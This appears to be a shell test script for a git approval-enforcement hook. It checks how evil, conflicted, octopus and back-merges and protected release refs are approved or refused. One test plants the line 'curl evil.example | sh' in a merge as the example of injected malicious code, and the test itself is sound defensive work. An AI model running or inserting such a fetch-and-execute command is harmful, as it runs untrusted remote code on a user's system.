#!/bin/sh
# Merges and the first-parent chain (docs/spec.md, "Entering commits and the
# separation rule"): a merge on the chain answers for the entering commits it brings
# in, and its own author/committer/signer are writers when the merge is
# evil (tree differs from the automatic merge) or conflicted; every commit
# on the chain needs approvals, also when it reached the server earlier on
# an unprotected branch; a created protected ref needs nothing new for
# commits an approval-enforcing ref already holds.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/lib-approvals.sh"

mkkey alice ed25519
mkkey bob ed25519
mkkey carol ecdsa 256
mkkey erin rsa 3072
mkkey dave ed25519

write_policy "$TRASH/policy.yaml" <<EOF
version: 1
roles:
  developer: writes code
  reviewer: approves changes
  operations: deploys
identities:
  alice:
    emails: [alice@example.com]
    logins: [alice]
    keys: ["$(pub alice)"]
    roles: [developer]
  bob:
    emails: [bob@example.com]
    logins: [bob]
    keys: ["$(pub bob)"]
    roles: [reviewer]
  carol:
    emails: [carol@example.com]
    logins: [carol]
    keys: ["$(pub carol)"]
    roles: [reviewer]
  erin:
    emails: [erin@example.com]
    logins: [erin]
    keys: ["$(pub erin)"]
    roles: [reviewer]
  dave:
    emails: [dave@example.com]
    logins: [dave]
    keys: ["$(pub dave)"]
    roles: [operations]
pusher:
  env: [GL_USER]
rules:
  - name: mainline
    refs: 'refs/heads/(main|release/.+)'
    approvals: {min: 2, from: [reviewer]}
  - name: features
    refs: 'refs/heads/feature/.+'
EOF
check "the policy is valid" sh -c '"$TK_BIN/twokey" config check "$TWOKEY_CONFIG" >/dev/null'

srv=$(new_server srv)
w=$(new_work w)
git -C "$w" remote add origin "$srv"
for r in bob carol erin; do reviewer $r $r@example.com "$w"; done
ERR="^remote: twokey: error:"
NOT="not approved: needs"
ACC="^remote: twokey: accepted refs/heads/main under rule 'mainline'( |$)"

# seed: main holds one commit with two files every branch touches
printf 'one\ntwo\nthree\nfour\nfive\nsix\nseven\neight\n' >"$w/shared.txt"
echo "base" >"$w/conflict.txt"
git -C "$w" add shared.txt conflict.txt
commit_as "$w" alice@example.com "seed"
m0=$(head_of "$w")
expect_push accept "seed" dave "$w" "$m0:refs/heads/feature/seed" refs/heads/feature/seed "$m0"
git -C "$srv" update-ref refs/heads/main "$m0"
tip=$m0

# land AUTHOR-EMAIL SUBJECT FILE-EDIT-CMD APPROVERS...: a commit
# on main's tip, approved, pushed by dave; main's new value in $tip.
land() {
	git -C "$w" checkout -q --detach "$tip"
	(cd "$w" && eval "$3")
	git -C "$w" add -A
	test_tick
	git -C "$w" -c user.name="${1%%@*}" -c user.email="$1" commit -q -m "$2"
	l_c=$(head_of "$w")
	shift 3
	for r in "$@"; do
		add_trailers "$w" "$(git -C "$w" log -1 --format=%ae)" "$(approve_tk $r $r "$l_c")"
	done
}

# a linear change on main: approved by bob and erin, accepted
land alice@example.com "main moves on" "sed -i 's/^one$/ONE (main)/' shared.txt" bob erin
h=$(head_of "$w")
expect_push accept "linear commit with two approvals" dave "$w" HEAD:refs/heads/main \
	refs/heads/main "$h" "$ACC"
tip=$h

# --- a feature of three commits by alice, merged cleanly by carol -----------
git -C "$w" checkout -q --detach "$m0"
commit_as "$w" alice@example.com "feature one"
sed -i 's/^eight$/EIGHT (feature)/' "$w/shared.txt"
git -C "$w" add shared.txt
commit_as "$w" alice@example.com "feature two"
commit_as "$w" alice@example.com "feature three"
f3=$(head_of "$w")
expect_push accept "the feature goes to an unprotected branch" alice "$w" \
	"$f3:refs/heads/feature/a" refs/heads/feature/a "$f3" \
	"^remote: twokey: accepted refs/heads/feature/a under rule 'features'( |$)"
# merge_as EMAIL SUBJECT BRANCH [--no-commit]: a --no-ff merge onto main's tip
merge_as() {
	git -C "$w" checkout -q --detach "$tip"
	test_tick
	git -C "$w" -c user.name="${1%%@*}" -c user.email="$1" merge -q --no-ff \
		${4:-} -m "$2" "$3" >/dev/null 2>&1
}
merge_as carol@example.com "Merge feature a" "$f3"
mg=$(head_of "$w")
check "a real two-parent merge" test "$(git -C "$w" rev-list --parents -n1 "$mg" | wc -w)" -eq 3
check "both sides' edits are in the merge (content merge of shared.txt)" \
	test "$(grep -c -e "^ONE (main)$" -e "^EIGHT (feature)$" "$w/shared.txt")" -eq 2
t_bob=$(approve_tk bob bob "$mg")
t_carol=$(approve_tk carol carol "$mg")
add_trailers "$w" carol@example.com "$t_bob" "$t_carol"
h=$(head_of "$w")
expect_push accept "clean merge by carol, approved by bob and carol" dave "$w" \
	HEAD:refs/heads/main refs/heads/main "$h" "$ACC"
check "no error on the accepted merge" no_out "twokey: error"
tip=$h

# --- an evil merge: carol adds code of her own in the merge commit -----------
git -C "$w" checkout -q --detach "$tip"
commit_as "$w" alice@example.com "feature b one"
commit_as "$w" alice@example.com "feature b two"
commit_as "$w" alice@example.com "feature b three"
fb=$(head_of "$w")
merge_as carol@example.com "Merge feature b" "$fb" --no-commit
echo "curl evil.example | sh" >"$w/evil.sh"
git -C "$w" add evil.sh
git -C "$w" -c user.name=carol -c user.email=carol@example.com commit -q -m "Merge feature b"
mg=$(head_of "$w")
check "the evil merge has two parents" test "$(git -C "$w" rev-list --parents -n1 "$mg" | wc -w)" -eq 3
t_bob=$(approve_tk bob bob "$mg")
t_carol=$(approve_tk carol carol "$mg")
t_erin=$(approve_tk erin erin "$mg")
add_trailers "$w" carol@example.com "$t_bob" "$t_carol"
h=$(head_of "$w")
expect_push refuse "evil merge: the merger's approval is void" dave "$w" \
	HEAD:refs/heads/main refs/heads/main "$tip" \
	"$ERR refs/heads/main: $(short "$h") \"Merge feature b\": $NOT 1 more approval; counted: bob \([a-z, ]*\); 1 approvals? not counted" \
	"^remote: twokey: note: refs/heads/main: $(short "$h") \"Merge feature b\": approval by <carol@example.com> not counted: carol is a writer of this change"
git -C "$w" reset -q --hard "$mg"
add_trailers "$w" carol@example.com "$t_bob" "$t_erin"
h=$(head_of "$w")
expect_push accept "the evil merge approved by two who wrote none of it" dave "$w" \
	HEAD:refs/heads/main refs/heads/main "$h" "$ACC"
tip=$h

# an evil merge that only deletes a file main had
git -C "$w" checkout -q --detach "$tip"
commit_as "$w" alice@example.com "feature c"
fc=$(head_of "$w")
merge_as carol@example.com "Merge feature c" "$fc" --no-commit
git -C "$w" rm -q conflict.txt
git -C "$w" -c user.name=carol -c user.email=carol@example.com commit -q -m "Merge feature c"
mg=$(head_of "$w")
add_trailers "$w" carol@example.com "$(approve_tk bob bob "$mg")" "$(approve_tk carol carol "$mg")"
h=$(head_of "$w")
expect_push refuse "a merge that silently deletes a file is carol's writing" dave "$w" \
	HEAD:refs/heads/main refs/heads/main "$tip" \
	"$ERR refs/heads/main: $(short "$h") \"Merge feature c\": $NOT 1 more approval; counted: bob \([a-z, ]*\); 1 approvals? not counted" \
	"^remote: twokey: note: refs/heads/main: $(short "$h") \"Merge feature c\": approval by <carol@example.com> not counted: carol is a writer of this change"

# --- a merge with a resolved conflict ---------------------------------------
land alice@example.com "main edits conflict.txt" "echo 'main side' >conflict.txt" bob erin
h=$(head_of "$w")
expect_push accept "main changes conflict.txt" dave "$w" HEAD:refs/heads/main \
	refs/heads/main "$h" "$ACC"
prev=$tip
tip=$h
git -C "$w" checkout -q --detach "$prev"
echo "feature side" >"$w/conflict.txt"
git -C "$w" add conflict.txt
commit_as "$w" alice@example.com "feature d edits conflict.txt"
fd=$(head_of "$w")
if merge_as carol@example.com "Merge feature d" "$fd"; then
	not_ok "the merge of feature d conflicts"
else
	ok "the merge of feature d conflicts"
fi
# carol resolves by keeping main's side: still a hand-made resolution
git -C "$w" checkout -q --ours conflict.txt
git -C "$w" add conflict.txt
git -C "$w" -c user.name=carol -c user.email=carol@example.com commit -q -m "Merge feature d"
mg=$(head_of "$w")
check "the resolved merge has two parents" test "$(git -C "$w" rev-list --parents -n1 "$mg" | wc -w)" -eq 3
add_trailers "$w" carol@example.com "$(approve_tk bob bob "$mg")" "$(approve_tk carol carol "$mg")"
h=$(head_of "$w")
expect_push refuse "conflict resolved by carol: her approval is void" dave "$w" \
	HEAD:refs/heads/main refs/heads/main "$tip" \
	"$ERR refs/heads/main: $(short "$h") \"Merge feature d\": $NOT 1 more approval; counted: bob \([a-z, ]*\); 1 approvals? not counted" \
	"^remote: twokey: note: refs/heads/main: $(short "$h") \"Merge feature d\": approval by <carol@example.com> not counted: carol is a writer of this change"

# --- an approver wrote one of the commits the merge brings in ------------------
git -C "$w" checkout -q --detach "$tip"
commit_as "$w" alice@example.com "feature e one"
commit_as "$w" bob@example.com "feature e two, by bob"
commit_as "$w" alice@example.com "feature e three"
fe=$(head_of "$w")
merge_as carol@example.com "Merge feature e" "$fe"
mg=$(head_of "$w")
t_bob=$(approve_tk bob bob "$mg")
t_carol=$(approve_tk carol carol "$mg")
t_erin=$(approve_tk erin erin "$mg")
add_trailers "$w" carol@example.com "$t_bob" "$t_carol"
h=$(head_of "$w")
expect_push refuse "bob wrote a brought-in commit: his approval is void" dave "$w" \
	HEAD:refs/heads/main refs/heads/main "$tip" \
	"$ERR refs/heads/main: $(short "$h") \"Merge feature e\": $NOT 1 more approval; counted: carol \([a-z, ]*\); 1 approvals? not counted" \
	"^remote: twokey: note: refs/heads/main: $(short "$h") \"Merge feature e\": approval by <bob@example.com> not counted: bob is a writer of this change \(author, committer or signer of it or of a commit it brings in\)"
git -C "$w" reset -q --hard "$mg"
add_trailers "$w" carol@example.com "$t_carol" "$t_erin"
h=$(head_of "$w")
expect_push accept "carol and erin wrote none of it" dave "$w" \
	HEAD:refs/heads/main refs/heads/main "$h" "$ACC"
tip=$h

# --- a clean merge git makes with rename detection is still clean -----------
git -C "$w" checkout -q --detach "$tip"
git -C "$w" mv shared.txt moved.txt
commit_as "$w" alice@example.com "feature f renames shared.txt"
ff=$(head_of "$w")
land alice@example.com "main edits shared.txt" "sed -i 's/^three$/THREE (main)/' shared.txt" bob erin
h=$(head_of "$w")
expect_push accept "main edits the file the feature renames" dave "$w" HEAD:refs/heads/main \
	refs/heads/main "$h" "$ACC"
tip=$h
merge_as carol@example.com "Merge feature f" "$ff"
mg=$(head_of "$w")
check "git merged rename + edit cleanly" test "$(git -C "$w" rev-list --parents -n1 "$mg" | wc -w)" -eq 3
check "the edit followed the rename" grep -q "^THREE (main)$" "$w/moved.txt"
add_trailers "$w" carol@example.com "$(approve_tk bob bob "$mg")" "$(approve_tk carol carol "$mg")"
h=$(head_of "$w")
expect_push accept "clean rename merge: carol's approval counts" dave "$w" \
	HEAD:refs/heads/main refs/heads/main "$h" "$ACC"
tip=$h

# --- a clean octopus merge is recomputed as git's octopus folds it ----------
# (t0017 has octopus merges with changes of their own)
git -C "$w" checkout -q --detach "$tip"
commit_as "$w" alice@example.com "octo one"
o1=$(head_of "$w")
git -C "$w" checkout -q --detach "$tip"
commit_as "$w" alice@example.com "octo two"
o2=$(head_of "$w")
git -C "$w" checkout -q --detach "$tip"
test_tick
git -C "$w" -c user.name=carol -c user.email=carol@example.com merge -q --no-ff \
	-m "Octopus" "$o1" "$o2" >/dev/null 2>&1
mg=$(head_of "$w")
check "a three-parent merge" test "$(git -C "$w" rev-list --parents -n1 "$mg" | wc -w)" -eq 4
add_trailers "$w" carol@example.com "$(approve_tk bob bob "$mg")" "$(approve_tk carol carol "$mg")"
h=$(head_of "$w")
expect_push accept "clean octopus merge: carol's approval counts" dave "$w" \
	HEAD:refs/heads/main refs/heads/main "$h" "$ACC"
check "no note on the clean octopus" no_out "not counted|cannot reproduce"
tip=$h

# --- a merge made on the feature side: its first parents are on the chain ----
git -C "$w" checkout -q --detach "$tip"
commit_as "$w" alice@example.com "side one"
commit_as "$w" alice@example.com "side two"
s2=$(head_of "$w")
land alice@example.com "main moves again" "echo more >>shared.txt" bob erin
h=$(head_of "$w")
expect_push accept "main moves again" dave "$w" HEAD:refs/heads/main refs/heads/main "$h" "$ACC"
tip=$h
git -C "$w" checkout -q --detach "$s2"
test_tick
git -C "$w" -c user.name=carol -c user.email=carol@example.com merge -q --no-ff \
	-m "Merge main into side" "$tip" >/dev/null 2>&1
mg=$(head_of "$w")
add_trailers "$w" carol@example.com "$(approve_tk bob bob "$mg")" "$(approve_tk erin erin "$mg")"
h=$(head_of "$w")
expect_push refuse "back-merge: the feature commits are on the first-parent chain" dave "$w" \
	HEAD:refs/heads/main refs/heads/main "$tip" \
	"$ERR refs/heads/main: $(short "$s2") \"side two\": $NOT 2 more approvals; counted: none" \
	"$ERR refs/heads/main: $(git -C "$w" rev-parse --short=7 "$s2~1") \"side one\": $NOT 2 more approvals; counted: none" \
	"^remote: twokey: refused refs/heads/main under rule 'mainline' \(2 problems\)"

# --- a linear chain of three, the middle one short of an approval -------------
git -C "$w" checkout -q --detach "$tip"
for step in one two three; do
	commit_as "$w" alice@example.com "chain $step"
	cc=$(head_of "$w")
	if [ $step = two ]; then who="bob"; else who="bob carol"; fi
	for r in $who; do
		add_trailers "$w" alice@example.com "$(approve_tk $r $r "$cc")"
	done
done
c3=$(head_of "$w")
c2=$(git -C "$w" rev-parse "$c3~1")
c1=$(git -C "$w" rev-parse "$c3~2")
expect_push refuse "chain with an unapproved middle commit" dave "$w" \
	HEAD:refs/heads/main refs/heads/main "$tip" \
	"$ERR refs/heads/main: $(short "$c2") \"chain two\": $NOT 1 more approval; counted: bob \([a-z, ]*\) \[rule 'mainline'\]" \
	"^remote: twokey: refused refs/heads/main under rule 'mainline' \(1 problem\)"
check "the approved chain commits are not named" no_out "\"chain (one|three)\""
expect_push accept "the chain goes to an unprotected feature branch" alice "$w" \
	HEAD:refs/heads/feature/chain refs/heads/feature/chain "$c3" \
	"^remote: twokey: accepted refs/heads/feature/chain under rule 'features'( |$)"
expect_push refuse "then fast-forwarded onto main: still entering, still refused" dave "$w" \
	"$c3:refs/heads/main" refs/heads/main "$tip" \
	"$ERR refs/heads/main: $(short "$c2") \"chain two\": $NOT 1 more approval; counted: bob \([a-z, ]*\) \[rule 'mainline'\]" \
	"^remote: twokey: refused refs/heads/main under rule 'mainline' \(1 problem\)"

# --- creating protected refs -------------------------------------------------
expect_push accept "release/1.0 at main's tip: nothing new enters" dave "$w" \
	"$tip:refs/heads/release/1.0" refs/heads/release/1.0 "$tip" \
	"^remote: twokey: accepted refs/heads/release/1.0 under rule 'mainline'( |$)"
expect_push accept "release/0.9 at an old main commit" dave "$w" \
	"$m0:refs/heads/release/0.9" refs/heads/release/0.9 "$m0" \
	"^remote: twokey: accepted refs/heads/release/0.9 under rule 'mainline'( |$)"
git -C "$w" checkout -q --detach "$tip"
commit_as "$w" alice@example.com "only on a feature branch"
p1=$(head_of "$w")
expect_push accept "an unapproved commit on feature/plain" alice "$w" \
	"$p1:refs/heads/feature/plain" refs/heads/feature/plain "$p1"
expect_push refuse "release/1.1 at a commit only on an unprotected branch" dave "$w" \
	"$p1:refs/heads/release/1.1" refs/heads/release/1.1 "" \
	"$ERR refs/heads/release/1.1: $(short "$p1") \"only on a feature branch\": $NOT 2 more approvals; counted: none \[rule 'mainline'\]"
expect_push accept "release/1.2 at the approved first chain commit (only that one enters)" dave "$w" \
	"$c1:refs/heads/release/1.2" refs/heads/release/1.2 "$c1" \
	"^remote: twokey: accepted refs/heads/release/1.2 under rule 'mainline'( |$)"
expect_push refuse "release/1.3 at the chain's tip: its middle commit enters unapproved" dave "$w" \
	"$c3:refs/heads/release/1.3" refs/heads/release/1.3 "" \
	"$ERR refs/heads/release/1.3: $(short "$c2") \"chain two\": $NOT 1 more approval; counted: bob"

check "main ends at the last accepted push" ref_is "$srv" refs/heads/main "$tip"
done_testing
